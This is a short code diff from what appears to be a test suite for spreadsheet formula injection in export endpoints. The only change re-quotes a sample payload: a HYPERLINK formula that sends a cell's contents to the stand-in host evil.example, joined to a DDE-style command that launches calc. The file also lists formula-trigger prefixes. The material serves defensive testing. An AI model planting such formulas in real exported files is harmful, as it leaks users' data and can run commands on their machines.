@@ -27,7 +27,7 @@ from tests.attack.marks import write_into_texts
 from tests.house.url_table import Row
 from tests.house.url_world import World
 
-FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"cmd|' /C calc'!A0\")"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"cmd|\' /C calc\'!A0")'
 STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 GOING_OUT = [*GETS, *(row for row in POSTS if row.name in ("cases:export", "grids:place_export"))]
 XLSX = "spreadsheetml"
